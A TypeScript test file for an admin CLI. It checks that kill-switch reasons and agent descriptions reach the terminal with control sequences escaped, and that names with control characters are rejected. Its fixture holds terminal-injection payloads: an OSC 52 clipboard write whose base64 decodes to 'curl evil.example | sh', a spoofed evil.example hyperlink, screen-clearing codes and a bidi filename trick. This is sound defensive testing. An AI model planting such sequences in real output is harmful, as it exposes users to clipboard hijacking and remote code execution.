import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { newStore, startBroker, type Store, type TestBroker } from "../helpers/broker.js";
import { runCli, runCliOnTerminal } from "../helpers/cli.js";
import { title } from "./cases.js";

/**
 * What the CLI prints of the API's free text (a reason, a description) on an admin's terminal. A terminal
 * obeys ESC (and U+009B, its one-byte CSI) sequences and reorders text around bidi controls; the text
 * comes from another person (a `security` key) or an agent's owner, not from the one reading it.
 */
const OSC_CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const OSC_LINK = "\u001b]8;;https://evil.example/\u001b\\\\click\u001b]8;;\u001b\\\\";
const CLEAR_SCREEN = "\u001b[2J\u001b[H";
const C1_CSI = "\u009b31m";
const HOSTILE = `INC-7 ${OSC_CLIPBOARD}${OSC_LINK}${CLEAR_SCREEN}${C1_CSI}invoice\u202efdp.exe`;
const OBEYED = /[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b-\u200f]/;

describe(title("ADM-33"), () => {
  let store: Store;
  let broker: TestBroker;
  let securityKey: string;

  beforeAll(async () => {
    store = newStore();
    broker = await startBroker(store, { LOG_LEVEL: "warn" });
    securityKey = (await broker.admin("post", "/v1/admin-keys", { name: "oncall", role: "security" })).body.key;
  });
  afterAll(async () => {
    await broker?.close();
    await store?.drop();
  });

  it("kill-switch status shows a security key's reason with its escapes visible, not applied", async () => {
    const engaged = await broker.http().post("/v1/kill-switch").set("authorization", `Bearer ${securityKey}`).send({ reason: HOSTILE });
    expect(engaged.status).toBe(201);

    const shown = await runCliOnTerminal(["kill-switch", "status"], { env: { KEYWARD_URL: broker.url, KEYWARD_ADMIN_KEY: broker.adminKey } });
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain("ENGAGED");
    expect(shown.stdout).not.toMatch(OBEYED);
    expect(shown.stdout).toContain("\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007");
    expect(shown.stdout).toContain("\\u009b31minvoice\\u202efdp.exe");

    // Scripts get the text as stored.
    const json = await runCli(["kill-switch", "status", "--json"], { env: { KEYWARD_URL: broker.url, KEYWARD_ADMIN_KEY: broker.adminKey } });
    expect(JSON.parse(json.stdout).reason).toBe(HOSTILE);
  }, 120_000);

  it("agent list shows a description with its escapes visible, not applied", async () => {
    const created = await broker.admin("post", "/v1/agents", { name: "summariser", description: HOSTILE });
    expect(created.status).toBe(201);

    const shown = await runCliOnTerminal(["agent", "list"], { env: { KEYWARD_URL: broker.url, KEYWARD_ADMIN_KEY: broker.adminKey } });
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain("summariser");
    expect(shown.stdout).not.toMatch(OBEYED);
    expect(shown.stdout).toContain("INC-7 \\u001b]52;c;");
  }, 120_000);
});

describe(title("ADM-37"), () => {
  let store: Store;
  let broker: TestBroker;

  beforeAll(async () => {
    store = newStore();
    broker = await startBroker(store, { LOG_LEVEL: "warn" });
  });
  afterAll(async () => {
    await broker?.close();
    await store?.drop();
  });

  // Names are printed as they are (the CLI's confirmation prompts, tables): C0 and DEL were refused, C1 was not.
  it.each([
    ["an agent", "/v1/agents", { name: `deploy${C1_CSI}` }],
    ["an admin key", "/v1/admin-keys", { name: `oncall\u0085`, role: "security" }],
    ["an agent (C0, as before)", "/v1/agents", { name: "deploy\u001b[2J" }],
  ])("%s named with a control character", async (_what, path, body) => {
    const res = await broker.admin("post", path, body);
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe("validation_failed");
  });
});
